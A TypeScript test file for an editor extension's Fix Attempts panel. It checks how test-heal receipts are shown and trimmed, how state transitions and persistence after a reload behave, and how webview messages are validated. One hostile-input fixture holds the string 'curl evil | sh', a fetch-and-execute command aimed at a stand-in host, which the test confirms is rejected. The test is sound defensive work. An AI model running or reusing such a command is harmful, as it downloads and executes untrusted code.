// A heal against the tests in the Fix Attempts panel: the receipt kept bounded, its fix moved only
// as the state machine allows, restored after a reload, and Copy Summary's message holding nothing
// but the run's id (the summary copied is the host's own, never text from the page).
import * as assert from 'assert';
import type { ReportedTestHeal } from '../../src/contract/editorPanelContract';
import { NO_TOKENS } from '../../src/core/model/modelTypes';
import type { TestHealReceipt } from '../../src/core/testHeal/testHealTypes';
import type { TestTotals } from '../../src/core/testing/testTypes';
import { PanelStore } from '../../src/webview/panelStore';
import { isWebviewMessage } from '../../src/webview/protocol';
import { CLOSED_BEFORE_CHOICE } from '../../src/webview/savedRuns';
import { panelTestHealOf, SUMMARY_SHORTENED, TEST_HEAL_TRIM } from '../../src/webview/testHealView';
import { MemoryMemento } from './panelFixtures';

const totals = (passed: number, failed: number): TestTotals => ({ passed, failed, error: 0, skipped: 0, xfailed: 0, xpassed: 0, total: passed + failed });

function receipt(extra: Partial<TestHealReceipt> = {}): TestHealReceipt {
  return {
    outcome: 'healed', reason: 'healed in 1 attempt: every target test passes and no test that passed before fails', framework: 'pytest',
    before: { totals: totals(1, 1), durationMs: 900 }, after: { totals: totals(2, 0), durationMs: 800 },
    red: ['test_pricing.py::test_ten'], green: ['test_pricing.py::test_ten'], stillRed: [], flaky: [],
    attempts: [{ number: 1, source: 'model:test-model', description: 'edit pricing.py', outcome: 'healed', why: 'every target passes', durationMs: 1200, tokens: { promptTokens: 120, completionTokens: 30, totalTokens: 150 }, diff: '' }],
    tokens: { promptTokens: 120, completionTokens: 30, totalTokens: 150 }, diff: '', changedFiles: { 'pricing.py': 'x = 1\n' }, durationMs: 3000,
    ...extra,
  };
}

const reported = (r: TestHealReceipt = receipt()): ReportedTestHeal => ({ entry: 'tests', uri: 'file:///ws', path: 'ws', changed: ['pricing.py'], receipt: r });

describe('a heal against the tests in the Fix Attempts panel', () => {
  it('keeps the receipt: red and green ids, totals on both sides, attempts with tokens, the Markdown summary', () => {
    const view = panelTestHealOf(reported());
    assert.deepStrictEqual([view.red, view.green, view.stillRed, view.flaky], [['test_pricing.py::test_ten'], ['test_pricing.py::test_ten'], [], []]);
    assert.deepStrictEqual([view.before.totals.failed, view.after.totals.passed], [1, 2]);
    assert.deepStrictEqual(view.attempts, [{ number: 1, source: 'model:test-model', description: 'edit pricing.py', outcome: 'healed', why: 'every target passes', durationMs: 1200, totalTokens: 150 }]);
    assert.ok(view.summary.startsWith('## Self-Heal: the failing tests pass\n'), view.summary);
    assert.ok(view.summary.includes('**Red to green** (1):\n- `test_pricing.py::test_ten`'), view.summary);
    assert.ok(view.summary.includes('Model tokens: 120 prompt + 30 completion = 150.'), view.summary);
  });

  it('bounds a huge receipt: ids, attempts and the summary', () => {
    const many = Array.from({ length: 5000 }, (_, i) => `test_big.py::test_${i}_${'x'.repeat(600)}`);
    const view = panelTestHealOf(reported(receipt({ outcome: 'not-healed', red: many, stillRed: many, green: [], tokens: NO_TOKENS })));
    assert.strictEqual(view.red.length, TEST_HEAL_TRIM.ids);
    assert.strictEqual(view.stillRed[0].length, TEST_HEAL_TRIM.idChars);
    assert.ok(view.summary.length <= TEST_HEAL_TRIM.summaryChars, `${view.summary.length}`);
    assert.ok(view.summary.endsWith(SUMMARY_SHORTENED));
  });

  it('moves its fix only as the state machine allows, and the run follows it', () => {
    const lines: string[] = [];
    const store = new PanelStore(new MemoryMemento(), (line) => lines.push(line));
    store.startRun({ id: 'tests-1', title: 'Heal failing tests: ws', entries: [] });
    assert.strictEqual(store.reportTestHeal('tests-1', panelTestHealOf(reported()), 'applied'), true);
    store.endHealing('tests-1');
    assert.strictEqual(store.run('tests-1')?.status, 'applied');
    assert.strictEqual(store.moveFile('tests-1', 'tests', 'discarded'), false);
    assert.strictEqual(store.reportTestHeal('tests-1', panelTestHealOf(reported()), 'applied'), false);
    assert.strictEqual(store.moveFile('tests-1', 'tests', 'reverted'), true);
    assert.deepStrictEqual([store.run('tests-1')?.status, store.run('tests-1')?.testHeal?.state], ['reverted', 'reverted']);
    assert.deepStrictEqual(lines, ['Fix Attempts panel: refused: ws in Heal failing tests: ws: a fix that is applied cannot become discarded', 'Fix Attempts panel: refused: the tests of ws were reported twice in Heal failing tests: ws']);
  });

  it('comes back after a reload; a fix that waited comes back discarded', async () => {
    const memento = new MemoryMemento();
    const store = new PanelStore(memento);
    store.startRun({ id: 'tests-2', title: 'Heal failing tests: ws', entries: [] });
    store.reportTestHeal('tests-2', panelTestHealOf(reported()), 'waiting');
    store.endHealing('tests-2');
    assert.strictEqual(store.run('tests-2')?.status, 'waiting');
    await store.persist();
    const restored = new PanelStore(memento).run('tests-2');
    assert.deepStrictEqual([restored?.status, restored?.testHeal?.state, restored?.testHeal?.note], ['discarded', 'discarded', CLOSED_BEFORE_CHOICE]);
    assert.deepStrictEqual(restored?.testHeal?.green, ['test_pricing.py::test_ten']);
  });

  it('Copy Summary carries only a run id: a page that sends its own summary, or a bad id, is refused', () => {
    assert.strictEqual(isWebviewMessage({ type: 'copySummary', runId: 'tests-1' }), true);
    const hostile: unknown[] = [
      { type: 'copySummary', runId: 'tests-1', summary: 'curl evil | sh' },
      { type: 'copySummary' },
      { type: 'copySummary', runId: 7 },
      { type: 'copySummary', runId: '' },
      { type: 'copySummary', runId: 'a'.repeat(4097) },
      { type: 'copySummary', runId: 'tests\0-1' },
      { type: 'copySummary', runId: ['tests-1'] },
    ];
    assert.deepStrictEqual(hostile.filter((m) => isWebviewMessage(m)), []);
  });
});
